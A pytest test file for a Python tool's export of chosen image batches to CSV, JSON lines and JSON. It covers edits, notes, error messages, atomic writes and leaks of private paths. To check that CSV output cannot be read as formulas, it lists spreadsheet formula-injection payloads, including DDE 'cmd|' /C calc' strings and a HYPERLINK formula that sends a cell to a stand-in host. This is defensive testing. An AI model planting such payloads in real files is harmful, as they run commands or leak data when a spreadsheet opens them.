"""The chosen batch as CSV, JSON lines and JSON; the archives are in test_handover.py."""

import csv
import errno
import getpass
import io
import json
import math
import os
import socket
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from store_helpers import CONFIG, names, refusal

from rambo import export
from rambo.errors import ConfigError
from rambo.export.text import to_lines
from rambo.runs import edits, notes
from rambo.runs.edits import EditedBatch
from rambo.runs.environment import Environment
from rambo.runs.notes import ImageNote
from rambo.runs.run import Run
from rambo.runs.workspace import Workspace

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\0", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
PAYLOADS = [
    *(sign + text for sign in TRIGGERS for text in ("", "1+1", "cmd|' /C calc'!A0", 'A1,"B"', "x\ny")),
    *(f"a{separator}={'1+1'}" for separator in ",;|\t\r\n"),
    '=HYPERLINK("http://host/?x="&A1,"click")', '"=1+1"', "'=1+1", "==1", "a,=1,@b;-c",
    '@SUM(1+1)*cmd|"/C calc"!A0', "-2+3+cmd|' /C calc'!A0", "\r\n=1+1", ";=1", ",=1", "\t\t=1",
]  # fmt: skip
HARMLESS = [
    "T-shirt/top",
    "a=b",
    "x + y",
    "user@host",
    "3-4",
    "",
    " ",
    "1e5",
    "日本",
    'say "hi"',
    "a,b",
    "NA",
]


@pytest.fixture
def run(tmp_path: Path) -> Run:
    return Workspace(tmp_path / "runs").create(CONFIG, Environment(classes=("shoe", "=1+1", "bag")))


def choose(run: Run, trial: int = 0, strategy: str = "rambo", utility: float = 0.75) -> None:
    """Write the evidence of a choice, in no order, as the worker does."""
    frame = pd.DataFrame(
        {
            "order": [3, 1, 2],
            "step": [1, 0, 0],
            "dataset_index": [70, 5, 9000],
            "margin": np.array([0.5, 0.1, -0.25], np.float64),
            "predicted_class": [2, 0, 1],
            "predicted_utility": [math.nan, utility, 0.5],
        }
    )
    run.save_table(f"trial-{trial}/{strategy}/selection", frame)


EXPECTED = [  # without an atlas there is no position in the pool
    (1, 0, 5, None, "000005.png", 0.1, 0, "shoe", 0.75),
    (2, 0, 9000, None, "009000.png", -0.25, 1, "=1+1", 0.5),
    (3, 1, 70, None, "000070.png", 0.5, 2, "bag", None),
]


def test_rows_hold_what_the_run_knows_in_the_order_of_choice(run: Run) -> None:
    choose(run)
    assert [row.record() for row in export.rows(run)] == [
        dict(zip(export.COLUMNS, (run.id, "rambo", 5, *row), strict=True)) for row in EXPECTED
    ]
    for row in export.rows(run):
        kinds = [
            type(getattr(row, name))
            for name in ("seed", "order", "step", "dataset_index", "margin")
        ]
        assert kinds == [int, int, int, int, float]


def test_an_edited_batch_is_what_is_exported_and_the_original_is_offered(run: Run) -> None:
    choose(run)
    before = export.rows(run)
    edits.save(run, 0, "rambo", EditedBatch().with_step(0, [9000, 123]))
    table = export.rows(run)
    assert [(row.order, row.step, row.dataset_index) for row in table] == [
        (1, 0, 9000),
        (2, 0, 123),
        (3, 1, 70),
    ]
    assert [row.chosen_by for row in table] == ["rambo", "person", "rambo"]
    assert table[1].file == "000123.png"
    assert [
        getattr(table[1], name) for name in ("margin", "predicted_label", "predicted_utility")
    ] == [None] * 3
    assert export.rows(run, original=True) == before
    assert export.build(run, "csv").count == 3
    assert b"chosen_by" in export.build(run, "csv").data
    assert b"chosen_by" not in export.build(run, "csv", original=True).data
    edits.save(run, 0, "rambo", EditedBatch(steps={0: (), 1: ()}))
    assert "the edited batch is empty" in refusal(lambda: export.build(run, "csv"))
    assert export.build(run, "csv", original=True).count == 3


def test_tags_and_notes_stand_in_every_table_where_anybody_gave_one(
    run: Run, tmp_path: Path
) -> None:
    choose(run)
    notes.save(run, 123_456, ImageNote(), ImageNote(("of another batch",)))
    assert b"tags" not in export.build(run, "csv").data
    entry = ImageNote(("blurry", "=1+1", "<b>"), '=A1, "so"\nsecond line')
    notes.save(run, 9000, ImageNote(), entry)
    rows = [json.loads(line) for line in export.build(run, "jsonl").data.splitlines()]
    assert [row["tags"] for row in rows] == [[], ["blurry", "=1+1", "<b>"], []]
    assert [row["note"] for row in rows] == ["", entry.note, ""]
    assert json.loads(export.build(run, "json").data) == rows
    lines = list(csv.DictReader(io.StringIO(export.build(run, "csv").data.decode(), newline="")))
    assert [line["tags"] for line in lines] == ["", "blurry, =1+1, <b>", ""]
    assert [line["note"] for line in lines] == ["", "'" + entry.note, ""]
    (run.folder / "notes.json").write_text("{}")
    notices = export.gather(run).notices
    assert any(notice.startswith("Tags and notes cannot be read") for notice in notices)
    assert b"note" not in export.build(run, "csv").data


def test_strategy_and_seed_choose_the_batch(run: Run) -> None:
    choose(run, 0, "rambo", 0.25)
    choose(run, 1, "rambo", 0.5)
    choose(run, 1, "margin", 0.75)
    first = [export.rows(run, *which)[0] for which in [(), (None, 6), ("margin", 6)]]
    values = [(row.strategy, row.seed, row.predicted_utility) for row in first]
    assert values == [("rambo", 5, 0.25), ("rambo", 6, 0.5), ("margin", 6, 0.75)]
    words = refusal(lambda: export.rows(run, strategy="random\n"), ConfigError)
    assert words == "--strategy random?: not in this run; choose one of: rambo, margin"
    words = refusal(lambda: export.rows(run, seed=7), ConfigError)
    assert words == "--seed 7: not in this run; choose one of: 5, 6"


def test_an_option_without_a_place_in_the_format_is_said_and_changes_no_byte(run: Run) -> None:
    choose(run)
    plain = export.build(run, "csv")
    redundant = export.build(run, "csv", image_url="https://pictures.example/", guesses=True)
    assert redundant.data == plain.data
    sentences = redundant.notices[len(plain.notices) :]
    assert [sentence.split(" in csv")[0] for sentence in sentences] == [
        "a URL of the images has no place",
        "guesses have no place",
    ]


def test_a_run_that_has_chosen_nothing_says_so(run: Run, tmp_path: Path) -> None:
    words = refusal(lambda: export.build(run, "csv").write(tmp_path / "out.csv"))
    assert "strategy rambo, seed 5, has chosen nothing yet" in words
    choose(run)
    words = refusal(lambda: export.rows(run, "margin", 6))
    assert "strategy margin, seed 6, has chosen nothing yet" in words
    assert not (tmp_path / "out.csv").exists()


def test_a_strategy_without_evidence_has_empty_cells(run: Run) -> None:
    nothing = [None, None]
    frame = pd.DataFrame(
        {
            "order": [1, 2],
            "step": [0, 0],
            "dataset_index": [4, 3],
            "margin": nothing,
            "predicted_class": nothing,
            "predicted_utility": [math.nan, math.nan],
        }
    )
    run.save_table("trial-0/margin/selection", frame)
    for row in export.rows(run, "margin"):
        assert [getattr(row, name) for name in export.COLUMNS[8:]] == [None] * 4
    frame["predicted_class"] = [1.0, 99.0]  # pandas makes floats of a column with gaps
    run.save_table("trial-0/margin/selection", frame)
    rows = export.rows(run, "margin")
    assert [row.predicted_class for row in rows] == [1, 99]
    assert [row.predicted_label for row in rows] == ["=1+1", None]


def test_evidence_of_another_form_is_refused(run: Run) -> None:
    run.save_table("trial-0/rambo/selection", pd.DataFrame({"order": [1], "step": [0]}))
    assert "it has no column dataset_index" in refusal(lambda: export.rows(run))


def test_every_format_reads_back_exactly(run: Run, tmp_path: Path) -> None:
    choose(run)
    rows = [row.record() for row in export.rows(run)]
    assert export.build(run, "json").write(tmp_path / "out.json").count == 3
    assert json.loads((tmp_path / "out.json").read_text()) == rows
    assert export.build(run, "jsonl").write(tmp_path / "out.jsonl").count == 3
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    assert [json.loads(line) for line in lines] == rows
    assert export.build(run, "csv").write(tmp_path / "out.csv").count == 3
    assert (tmp_path / "out.csv").read_bytes().decode() == (
        ",".join(export.COLUMNS) + "\n"
        f"{run.id},rambo,5,1,0,5,,000005.png,0.1,0,shoe,0.75\n"
        f"{run.id},rambo,5,2,0,9000,,009000.png,-0.25,1,'=1+1,0.5\n"
        f"{run.id},rambo,5,3,1,70,,000070.png,0.5,2,bag,\n"
    )
    frame = pd.read_csv(tmp_path / "out.csv")
    assert frame["margin"].tolist() == [0.1, -0.25, 0.5]
    assert frame["dataset_index"].dtype == np.int64
    assert names(tmp_path) == ["out.csv", "out.json", "out.jsonl", "runs"]


def test_no_cell_of_a_csv_is_a_formula_and_every_cell_reads_back() -> None:
    assert len(PAYLOADS) >= 50
    table = [(text, -1.5, text) for text in PAYLOADS + HARMLESS]
    data = to_lines([("label", "number", "note"), *table]).decode()
    read = list(csv.reader(io.StringIO(data, newline=""), strict=True))
    assert read[0] == ["label", "number", "note"]
    assert len(read) == len(table) + 1
    for (label, number, note), text in zip(read[1:], PAYLOADS + HARMLESS, strict=True):
        assert label == note
        assert float(number) == -1.5
        assert label.replace("'", "") == text.replace("'", "")  # only apostrophes were added
        assert not label.startswith(tuple(TRIGGERS))
        for separator in ",;|\t\r\n":
            assert not any(part.startswith(tuple("=+-@")) for part in label.split(separator))
        if text in HARMLESS:
            assert label == text
    frame = pd.read_csv(io.StringIO(data, newline=""), keep_default_na=False, engine="python")
    assert frame["number"].tolist() == [-1.5] * len(table)
    assert frame["label"].tolist() == [row[0] for row in read[1:]]


def test_hostile_class_names_are_exact_in_json_and_guarded_in_csv(tmp_path: Path) -> None:
    classes = ["=1+1", "\udcff\u2028\0\n", "-1"]
    run = Workspace(tmp_path / "runs").create(CONFIG, Environment(classes=tuple(classes)))
    choose(run)
    order = [classes[0], classes[1], classes[2]]
    for form in ("json", "jsonl"):
        export.build(run, form).write(tmp_path / form)
    assert [row["predicted_label"] for row in json.loads((tmp_path / "json").read_text())] == order
    lines = (tmp_path / "jsonl").read_text().splitlines()
    assert [json.loads(line)["predicted_label"] for line in lines] == order
    export.build(run, "csv").write(tmp_path / "csv")
    with (tmp_path / "csv").open(newline="") as file:
        labels = [row["predicted_label"] for row in csv.DictReader(file)]
    assert labels == ["'=1+1", "\\udcff\u2028\0\n", "-1"]


def test_an_export_tells_nothing_private(tmp_path: Path) -> None:
    config = {**CONFIG, "dataset": {"name": str(tmp_path / "private" / "photos")}}
    run = Workspace(tmp_path / "runs").create(
        config, Environment(classes=("a", "b", "c"), plugins=(str(Path.cwd()),))
    )
    choose(run)
    for form in ("csv", "jsonl", "json"):
        export.build(run, form).write(tmp_path / "out")
        text = (tmp_path / "out").read_text()
        canaries = [str(tmp_path), "private", str(Path.cwd()), socket.gethostname(), "/"]
        if len(getpass.getuser()) > 3:
            canaries.append(getpass.getuser())
        assert not [canary for canary in canaries if canary in text]


def test_a_place_that_cannot_be_written_is_refused_by_name(
    run: Run, tmp_path: Path, monkeypatch
) -> None:
    choose(run)
    monkeypatch.chdir(tmp_path)
    os.mkfifo("pipe")
    for out, words in {
        "runs": "--out runs: this is a folder; name a file in it",
        ".": "--out .: this is a folder",
        "nowhere/out.csv": "--out nowhere/out.csv: its folder does not exist",
        "pipe": "--out pipe: this is no ordinary file",
        "/dev/null": "--out /dev/null: this is no ordinary file",
        "a" * 300: "--out " + "a" * 197 + "...: file name too long",
        "a\0b": "--out a?b: ",
    }.items():
        assert refusal(
            lambda out=out: export.build(run, "csv").write(Path(out)), ConfigError
        ).startswith(words)
    assert refusal(lambda: export.build(run, "xlsx\n").write(Path("x")), ConfigError) == (
        "--format xlsx?: unknown; choose one of: csv, jsonl, json, zip, label-studio, fiftyone, cvat, distil"
    )
    assert names(tmp_path) == ["pipe", "runs"]


@pytest.mark.parametrize("number", [errno.ENOSPC, errno.EROFS, errno.EACCES])
def test_a_disk_that_refuses_leaves_the_old_file(run, tmp_path, monkeypatch, number) -> None:
    choose(run)
    (tmp_path / "out.csv").write_text("old")

    def refuse(*arguments, **named):
        raise OSError(number, os.strerror(number), str(tmp_path))

    with monkeypatch.context() as patched:
        patched.chdir(tmp_path)
        patched.setattr(os, "fsync", refuse)
        words = refusal(lambda: export.build(run, "csv").write(Path("out.csv")), ConfigError)
    assert words.startswith("--out out.csv: ")
    assert words.endswith("export again")
    assert (tmp_path / "out.csv").read_text() == "old"
    assert names(tmp_path) == ["out.csv", "runs"]


def test_a_link_keeps_pointing_at_its_file(run: Run, tmp_path: Path) -> None:
    choose(run)
    (tmp_path / "real.csv").write_text("old")
    (tmp_path / "link.csv").symlink_to("real.csv")
    export.build(run, "csv").write(tmp_path / "link.csv")
    assert (tmp_path / "link.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text().startswith("run_id,")
